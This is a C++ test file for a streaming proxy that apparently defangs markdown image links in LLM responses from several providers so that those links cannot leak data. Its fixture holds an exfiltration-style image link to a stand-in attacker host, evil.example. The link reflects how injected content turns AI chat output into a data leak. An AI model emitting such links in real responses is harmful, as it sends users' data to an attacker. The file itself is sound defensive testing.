// Egress and repeats of a text that no event has sent before: they are inert too, and egress alone changes
// them.
#include <citestream/dialect/dialect.hpp>
#include <citestream/session/session.hpp>

#include <string>
#include <string_view>
#include <vector>

#include <catch2/catch.hpp>

#include "session/guarded_streams.hpp"
#include "support/stream_runs.hpp"

using namespace citestream;
using namespace citestream_tests;

namespace {

constexpr std::string_view evil = "![i](https://evil.example/S)";
constexpr std::string_view inert = R"(![i]\\(https[://]evil[.]example/S))";  // in JSON

std::string event(std::string_view payload) {
  return "data: " + std::string(payload) + "\n\n";
}

/// \p form with \p text in the places of `@`.
std::string with(std::string_view form, std::string_view text) {
  std::string out;
  for (const char c : form) c == '@' ? out += text : out += c;
  return out;
}

struct example {
  std::string_view name;
  std::string stream;
};

const std::string created =
    event(R"({"type":"response.created","sequence_number":0,"response":{"id":"r","object":"response",)"
          R"("output":[]}})");
const std::string completed =
    event(R"({"type":"response.completed","sequence_number":9,"response":{"id":"r","object":"response",)"
          R"("output":[]}})");
constexpr std::string_view part = R"({"type":"output_text","text":"Hi @.","annotations":[]})";

std::string item() {
  return R"({"id":"m","type":"message","role":"assistant","content":[)" + std::string(part) + "]}";
}

/// An event of Responses about the first part, with \p members.
std::string about_part(std::string_view type, const std::string& members) {
  return event(R"({"type":"response.)" + std::string(type) +
               R"(","sequence_number":1,"item_id":"m","output_index":0,"content_index":0,)" + members + "}");
}

std::string run_with(std::string_view events, std::string_view result = {}) {
  return event(R"({"type":"RUN_STARTED","threadId":"t","runId":"r"})") + std::string(events) +
         event(R"({"type":"RUN_FINISHED","threadId":"t","runId":"r")" + std::string(result) + "}");
}

std::string messages(std::string_view id) {
  return event(R"({"type":"MESSAGES_SNAPSHOT","messages":[{"id":"u","role":"user","content":"Why?"},{)" +
               std::string(id) + R"("role":"assistant","content":"Hi @."}]})");
}

const std::string interaction =
    event(R"({"event_type":"interaction.created","interaction":{"id":"v","object":"interaction"}})");

/// Each text is in a repeat, and no delta comes before it.
const std::vector<example> examples{
    {"response.created",
     event(R"({"type":"response.created","response":{"id":"r","object":"response","output":[)" + item() +
           "]}}") +
         completed},
    {"output_item.added", created + about_part("output_item.added", "\"item\":" + item()) + completed},
    {"output_item.done", created + about_part("output_item.done", "\"item\":" + item()) + completed},
    {"content_part.added",
     created + about_part("content_part.added", "\"part\":" + std::string(part)) + completed},
    {"content_part.added, and a delta after it",
     created + about_part("content_part.added", "\"part\":" + std::string(part)) +
         about_part("output_text.delta", R"("delta":" ok")") + completed},
    {"content_part.done",
     created + about_part("content_part.done", "\"part\":" + std::string(part)) + completed},
    {"output_text.done", created + about_part("output_text.done", R"("text":"Hi @.")") + completed},
    {"response.completed",
     created + event(R"({"type":"response.completed","sequence_number":1,"response":{"id":"r",)"
                     R"("object":"response","output":[)" +
                     item() + R"(],"output_text":"Hi @."}})")},
    {"MESSAGES_SNAPSHOT", run_with(messages(R"("id":"a",)"))},
    {"MESSAGES_SNAPSHOT without ids", run_with(messages(""))},
    {"result", run_with("", R"(,"result":"Hi @.")")},
    {"interaction.completed",
     interaction + event(R"({"event_type":"interaction.completed","interaction":{"id":"v",)"
                         R"("object":"interaction","steps":[{"type":"model_output","content":[)"
                         R"({"type":"text","text":"Hi @."},{"type":"text","text":"@"}]}]}})")},
};

std::string gemini(std::string_view segment) {
  return R"({"candidates":[{"content":{"parts":[{"text":"Hi @."}]},"finishReason":"STOP",)"
         R"("groundingMetadata":{"groundingChunks":[{"web":{"uri":"https://z.example/z","title":"Z"}}],)"
         R"("groundingSupports":[{"segment":{)" +
         std::string(segment) + R"("text":"Hi @."},"groundingChunkIndices":[0]}]}}],"modelVersion":"m"})";
}

const std::string bedrock_citation =
    R"("generatedResponsePart":{"textResponsePart":{"text":"Hi @."}},"retrievedReferences":[)"
    R"({"content":{"text":"q"},"location":{"type":"S3","s3Location":{"uri":"s3://b/k"}}}])";

std::string cohere_citation(std::string_view place) {
  return "{" + std::string(place) +
         R"("text":"Hi @.","sources":[{"type":"document","id":"doc:0","document":{"id":"doc:0"}},)"
         R"({"type":"document","id":"doc:1","document":{"id":"doc:1"}}],"type":"TEXT_CONTENT"})";
}

std::string cohere_body(std::string_view place) {
  return R"({"id":"c","finish_reason":"COMPLETE","message":{"role":"assistant","content":[)"
         R"({"type":"text","text":"Hi @."}],"citations":[)" +
         cohere_citation(place) + "]}}";
}

std::string cohere_stream(std::string_view place) {
  return event(R"({"type":"message-start","delta":{"message":{"role":"assistant","content":[]}}})") +
         event(R"({"type":"content-delta","index":0,"delta":{"message":{"content":{"text":"Hi @."}}}})") +
         event(R"({"type":"citation-start","index":0,"delta":{"message":{"citations":)" +
               cohere_citation(place) + "}}}") +
         event(R"({"type":"content-end","index":0})") +
         event(R"({"type":"message-end","delta":{"finish_reason":"COMPLETE"}})");
}

/// Each citation repeats the words of the text, and has no place in it.
const std::vector<example> quoting_bodies{
    {"bedrock_rag",
     R"({"sessionId":"s","output":{"text":"Hi @."},"citations":[{)" + bedrock_citation + "}]}"},
    {"gemini, a part that is not there", gemini(R"("partIndex":1,"endIndex":5,)")},
    {"gemini, no end", gemini(R"("startIndex":2,)")},
    {"cohere, a block that is not there", cohere_body(R"("content_index":7,"start":0,"end":2,)")},
    {"cohere, no block", cohere_body(R"("content_index":"a","start":0,"end":2,)")},
    {"cohere, no positions", cohere_body("")}};

const std::vector<example> quoting_streams{
    {"bedrock_rag", event(R"({"text":"Hi @."})") + event("{" + bedrock_citation + "}")},
    {"bedrock_rag, the citation comes first",
     event("{" + bedrock_citation + "}") + event(R"({"text":"Hi @."})")},
    {"bedrock_rag, the citation comes first and has no references",
     event(R"({"generatedResponsePart":{"textResponsePart":{"text":"Hi @."}}})") +
         event(R"({"text":"Hi @."})")},
    {"gemini, a part", event(gemini(R"("partIndex":1,"endIndex":5,)"))},
    {"gemini, no end", event(gemini(R"("startIndex":2,)"))},
    {"cohere, no block", cohere_stream(R"("content_index":"a","start":0,"end":2,)")},
    {"cohere, no positions", cohere_stream("")}};

/// Events of Bedrock are recognised only in binary messages.
session_options quoting(egress_mode mode, const example& one) {
  session_options options = guarding(mode);
  options.add = additions::never;
  if (one.name.starts_with("bedrock_rag")) options.dialect = find_dialect("bedrock_rag");
  return options;
}

}  // namespace

TEST_CASE("the words of a citation without a place are inert") {
  for (const example& one : quoting_bodies) {
    INFO(one.name);
    std::string out;
    session guarded(quoting(egress_mode::enforce, one));
    CHECK_FALSE(guarded.rewrite_body(with(one.stream, evil), out));
    CHECK(out == with(one.stream, inert));
  }
  for (const example& one : quoting_streams) {
    INFO(one.name);
    const std::string stream = with(one.stream, evil);
    const session_options options = quoting(egress_mode::enforce, one);
    CHECK(run_whole(options, stream).out == with(one.stream, inert));
    CHECK(cut_difference(options, stream) == "");
  }
}

TEST_CASE("without egress the words of a citation without a place do not change") {
  for (const egress_mode mode : {egress_mode::off, egress_mode::report}) {
    for (const example& one : quoting_bodies) {
      INFO(one.name);
      std::string out;
      session work(quoting(mode, one));
      CHECK_FALSE(work.rewrite_body(with(one.stream, evil), out));
      CHECK(out == with(one.stream, evil));
      CHECK((work.statistics().egress > 1) == (mode == egress_mode::report));
    }
    for (const example& one : quoting_streams) {
      INFO(one.name);
      const std::string stream = with(one.stream, evil);
      const stream_run got = run_whole(quoting(mode, one), stream);
      CHECK(got.out == stream);
      CHECK((got.counts.egress > 1) == (mode == egress_mode::report));
      CHECK(cut_difference(quoting(mode, one), stream) == "");
    }
  }
}

TEST_CASE("a repeat that comes before every delta is inert") {
  for (const example& one : examples) {
    INFO(one.name);
    const std::string stream = with(one.stream, evil);
    session_options options = guarding(egress_mode::enforce);
    options.add = additions::never;
    const stream_run got = run_whole(options, stream);
    CHECK(got.out == with(one.stream, inert));
    CHECK(got.counts.egress > 0);
    CHECK_FALSE(got.end);
    CHECK(cut_difference(options, stream) == "");
  }
}

TEST_CASE("report and off change no repeat that comes before every delta") {
  for (const example& one : examples) {
    INFO(one.name);
    const std::string stream = with(one.stream, evil);
    for (const egress_mode mode : {egress_mode::off, egress_mode::report}) {
      session_options options = guarding(mode);
      options.add = additions::never;
      const stream_run got = run_whole(options, stream);
      CHECK(got.out == stream);
      CHECK((got.counts.egress > 0) == (mode == egress_mode::report));
      CHECK(cut_difference(options, stream) == "");
    }
  }
}

TEST_CASE("a repeat that comes before every delta keeps the URLs of references") {
  const std::string source = event(R"({"type":"TOOL_CALL_RESULT","messageId":"r1","toolCallId":"c1",)"
                                   R"("content":"[{\"url\":\"https://tool.example/p\",\"title\":\"P\"}]"})");
  const std::string stream = with(
      run_with(source + messages(R"("id":"a",)")),
      "[P](https://tool.example/p) and [R](https://ref.example/page?a=1) and [G](https://a.good.example/)");
  const stream_run got = run_whole(guarding(egress_mode::enforce), stream);
  CHECK(got.out == stream);
  CHECK(got.counts.egress == 0);
}

TEST_CASE("a repeat in a body that lacks the text is inert") {
  constexpr std::string_view body = R"({"id":"r","object":"response","output":[],"output_text":"Hi @."})";
  std::string out;
  session guarded(guarding(egress_mode::enforce));
  CHECK_FALSE(guarded.rewrite_body(with(body, evil), out));
  CHECK(out == with(body, inert));
}

TEST_CASE("an empty text at the start of a part of Responses is not a repeat") {
  const std::string start =
      about_part("content_part.added", R"("part":{"type":"output_text","text":"","annotations":[]})");
  const std::string stream =
      created + start + about_part("output_text.delta", R"("delta":"Hi.")") + start + completed;
  const stream_run got = run_whole(guarding(egress_mode::enforce), stream);
  CHECK(got.out == stream);
  CHECK(got.counts.unconverted == 0);
}
